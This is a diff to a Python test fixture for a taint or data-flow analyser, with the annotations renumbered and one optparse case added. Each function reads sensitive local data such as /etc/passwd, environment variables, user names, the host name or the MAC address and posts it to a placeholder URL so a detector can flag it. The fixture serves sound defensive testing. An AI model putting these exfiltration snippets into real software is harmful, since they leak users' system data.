@@ -8,6 +8,7 @@ import io
 import linecache
 import locale
 import mmap
+import optparse
 import os
 import pathlib
 import platform
@@ -226,6 +227,11 @@ def parsed_arguments():
     requests.post(U, data=args.name)  #~ sink(egress.http) f39, finding(traced) f39
 
 
+def parsed_arguments_old():
+    options, names = optparse.OptionParser().parse_args()  #~ source(INPUT) f40
+    requests.post(U, data=options.name)  #~ sink(egress.http) f40, finding(traced) f40
+
+
 def input_compared():
     requests.post(U, data={"end": sys.stdin.read() == ""})  #~ ok
     requests.post(U, data={"end": fileinput.input() == ""})  #~ ok
@@ -234,28 +240,28 @@ def input_compared():
 
 
 def login():
-    name = os.getlogin()  #~ source(USER) f41
-    requests.post(U, data=name)  #~ sink(egress.http) f41, finding(traced) f41
-
-
-def user_name():
-    name = getpass.getuser()  #~ source(USER) f42, capability(DEVICE)
+    name = os.getlogin()  #~ source(USER) f42
     requests.post(U, data=name)  #~ sink(egress.http) f42, finding(traced) f42
 
 
+def user_name():
+    name = getpass.getuser()  #~ source(USER) f43, capability(DEVICE)
+    requests.post(U, data=name)  #~ sink(egress.http) f43, finding(traced) f43
+
+
 def accounts():
-    names = pwd.getpwall()  #~ source(USER) f43
-    requests.post(U, data=str(names))  #~ sink(egress.http) f43, finding(traced) f43
+    names = pwd.getpwall()  #~ source(USER) f44
+    requests.post(U, data=str(names))  #~ sink(egress.http) f44, finding(traced) f44
 
 
 def working_folder():
-    folder = os.getcwd()  #~ source(FILE_META) f44
-    requests.post(U, data=folder)  #~ sink(egress.http) f44, finding(traced) f44
+    folder = os.getcwd()  #~ source(FILE_META) f45
+    requests.post(U, data=folder)  #~ sink(egress.http) f45, finding(traced) f45
 
 
 def process_number():
-    pid = os.getpid()  #~ source(PROCESS) f45
-    requests.post(U, data={"pid": pid})  #~ sink(egress.http) f45, finding(traced) f45
+    pid = os.getpid()  #~ source(PROCESS) f46
+    requests.post(U, data={"pid": pid})  #~ sink(egress.http) f46, finding(traced) f46
 
 
 def users_compared():
@@ -267,23 +273,23 @@ def users_compared():
 
 
 def host_name():
-    name = socket.gethostname()  #~ source(DEVICE) f47, capability(DEVICE)
-    requests.post(U, data=name)  #~ sink(egress.http) f47, finding(traced) f47
+    name = socket.gethostname()  #~ source(DEVICE) f48, capability(DEVICE)
+    requests.post(U, data=name)  #~ sink(egress.http) f48, finding(traced) f48
 
 
 def interfaces():
-    names = socket.if_nameindex()  #~ source(DEVICE) f48
-    requests.post(U, data=str(names))  #~ sink(egress.http) f48, finding(traced) f48
+    names = socket.if_nameindex()  #~ source(DEVICE) f49
+    requests.post(U, data=str(names))  #~ sink(egress.http) f49, finding(traced) f49
 
 
 def hardware_address():
-    address = uuid.getnode()  #~ source(DEVICE) f49
-    requests.post(U, data={"mac": address})  #~ sink(egress.http) f49, finding(traced) f49
+    address = uuid.getnode()  #~ source(DEVICE) f50
+    requests.post(U, data={"mac": address})  #~ sink(egress.http) f50, finding(traced) f50
 
 
 def language():
-    name = locale.getlocale()  #~ source(DEVICE) f50
-    requests.post(U, data=name[0])  #~ sink(egress.http) f50, finding(traced) f50
+    name = locale.getlocale()  #~ source(DEVICE) f51
+    requests.post(U, data=name[0])  #~ sink(egress.http) f51, finding(traced) f51
 
 
 def device_compared():
@@ -310,8 +316,8 @@ def copy_file():
 
 def copy_stream():
     target = io.BytesIO()
-    shutil.copyfileobj(open("/etc/passwd", "rb"), target)  #~ source(FILE) f55
-    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f55, finding(traced) f55
+    shutil.copyfileobj(open("/etc/passwd", "rb"), target)  #~ source(FILE) f56
+    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f56, finding(traced) f56
 
 
 def copy_constant_stream():
@@ -332,8 +338,8 @@ def unarchive():
 
 
 def disk():
-    space = shutil.disk_usage("/")  #~ source(DEVICE) f59
-    requests.post(U, data=str(space))  #~ sink(egress.http) f59, finding(traced) f59
+    space = shutil.disk_usage("/")  #~ source(DEVICE) f60
+    requests.post(U, data=str(space))  #~ sink(egress.http) f60, finding(traced) f60
 
 
 def disk_compared():
@@ -341,13 +347,13 @@ def disk_compared():
 
 
 def find_files():
-    names = glob.glob("/home/*")  #~ source(FILE_META) f61, capability(FILES)
-    requests.post(U, data=names)  #~ sink(egress.http) f61, finding(traced) f61
+    names = glob.glob("/home/*")  #~ source(FILE_META) f62, capability(FILES)
+    requests.post(U, data=names)  #~ sink(egress.http) f62, finding(traced) f62
 
 
 def filter_names():
-    names = fnmatch.filter(os.listdir("/home"), "*.txt")  #~ source(FILE_META) f62
-    requests.post(U, data=names)  #~ sink(egress.http) f62, finding(traced) f62
+    names = fnmatch.filter(os.listdir("/home"), "*.txt")  #~ source(FILE_META) f63
+    requests.post(U, data=names)  #~ sink(egress.http) f63, finding(traced) f63
 
 
 def names_compared():
@@ -356,8 +362,8 @@ def names_compared():
 
 
 def one_line():
-    line = linecache.getline("/etc/passwd", 1)  #~ source(FILE) f64, capability(FILES)
-    requests.post(U, data=line)  #~ sink(egress.http) f64, finding(traced) f64
+    line = linecache.getline("/etc/passwd", 1)  #~ source(FILE) f65, capability(FILES)
+    requests.post(U, data=line)  #~ sink(egress.http) f65, finding(traced) f65
 
 
 def one_line_compared():
@@ -365,9 +371,9 @@ def one_line_compared():
 
 
 def mapped():
-    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f66
+    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f67
     view = mmap.mmap(fd, 0)
-    requests.post(U, data=view.read(10))  #~ sink(egress.http) f66, finding(traced) f66
+    requests.post(U, data=view.read(10))  #~ sink(egress.http) f67, finding(traced) f67
 
 
 def mapped_anonymous():
@@ -377,15 +383,15 @@ def mapped_anonymous():
 
 def temporary_file():
     f = tempfile.NamedTemporaryFile()  #~ capability(FILE_WRITE)
-    f.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f68
+    f.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f69
     f.seek(0)
-    requests.post(U, data=f.read())  #~ sink(egress.http) f68, finding(traced) f68
+    requests.post(U, data=f.read())  #~ sink(egress.http) f69, finding(traced) f69
 
 
 def temporary_descriptor():
     fd, path = tempfile.mkstemp()  #~ capability(FILE_WRITE)
-    os.write(fd, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f69
-    requests.post(U, data=open(path, "a+").read())  #~ sink(egress.http) f69, finding(traced) f69
+    os.write(fd, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f70
+    requests.post(U, data=open(path, "a+").read())  #~ sink(egress.http) f70, finding(traced) f70
 
 
 def temporary_folder():
@@ -401,13 +407,13 @@ def temporary_constant():
 
 
 def path_read():
-    text = pathlib.Path("/etc/passwd").read_text()  #~ source(FILE) f72, capability(FILES)
-    requests.post(U, data=text)  #~ sink(egress.http) f72, finding(traced) f72
+    text = pathlib.Path("/etc/passwd").read_text()  #~ source(FILE) f73, capability(FILES)
+    requests.post(U, data=text)  #~ sink(egress.http) f73, finding(traced) f73
 
 
 def path_read_untyped(path):
-    text = path.read_text()  #~ source(FILE) f73, capability(FILES)
-    requests.post(U, data=text)  #~ sink(egress.http) f73, finding(traced) f73
+    text = path.read_text()  #~ source(FILE) f74, capability(FILES)
+    requests.post(U, data=text)  #~ sink(egress.http) f74, finding(traced) f74
 
 
 def path_write():
@@ -421,14 +427,14 @@ def path_write_untyped(path):
 
 
 def path_open():
-    f = pathlib.Path("/etc/passwd").open()  #~ source(FILE) f76, capability(FILES)
-    requests.post(U, data=f.read())  #~ sink(egress.http) f76, finding(traced) f76
+    f = pathlib.Path("/etc/passwd").open()  #~ source(FILE) f77, capability(FILES)
+    requests.post(U, data=f.read())  #~ sink(egress.http) f77, finding(traced) f77
 
 
 def path_open_write():
     path = pathlib.Path("/tmp/x")
-    path.open("w").write(os.getenv("T"))  #~ source(ENVIRONMENT) f77
-    requests.post(U, data=path.open("w+").read())  #~ sink(egress.http) f77, finding(traced) f77
+    path.open("w").write(os.getenv("T"))  #~ source(ENVIRONMENT) f78
+    requests.post(U, data=path.open("w+").read())  #~ sink(egress.http) f78, finding(traced) f78
 
 
 def path_open_constant():
@@ -439,26 +445,26 @@ def path_open_constant():
 
 
 def path_home():
-    requests.post(U, data=pathlib.Path.home().as_posix())  #~ source(USER) f79, sink(egress.http) f79, finding(traced) f79
+    requests.post(U, data=pathlib.Path.home().as_posix())  #~ source(USER) f80, sink(egress.http) f80, finding(traced) f80
 
 
 def path_cwd():
-    requests.post(U, data=pathlib.Path.cwd().as_posix())  #~ source(FILE_META) f80, sink(egress.http) f80, finding(traced) f80
+    requests.post(U, data=pathlib.Path.cwd().as_posix())  #~ source(FILE_META) f81, sink(egress.http) f81, finding(traced) f81
 
 
 def path_list():
-    for item in pathlib.Path("/home").iterdir():  #~ source(FILE_META) f81, capability(FILES)
-        requests.post(U, data=item.name)  #~ sink(egress.http) f81, finding(traced) f81
+    for item in pathlib.Path("/home").iterdir():  #~ source(FILE_META) f82, capability(FILES)
+        requests.post(U, data=item.name)  #~ sink(egress.http) f82, finding(traced) f82
 
 
 def path_from_parts():
-    path = pathlib.Path("/home", os.getenv("T"))  #~ source(ENVIRONMENT) f82
-    requests.post(U, data=path.name)  #~ sink(egress.http) f82, finding(traced) f82
+    path = pathlib.Path("/home", os.getenv("T"))  #~ source(ENVIRONMENT) f83
+    requests.post(U, data=path.name)  #~ sink(egress.http) f83, finding(traced) f83
 
 
 def path_joined():
-    path = pathlib.Path("/home").joinpath(os.getenv("T"))  #~ source(ENVIRONMENT) f83
-    requests.post(U, data=path.as_posix())  #~ sink(egress.http) f83, finding(traced) f83
+    path = pathlib.Path("/home").joinpath(os.getenv("T"))  #~ source(ENVIRONMENT) f84
+    requests.post(U, data=path.as_posix())  #~ sink(egress.http) f84, finding(traced) f84
 
 
 def path_constants():
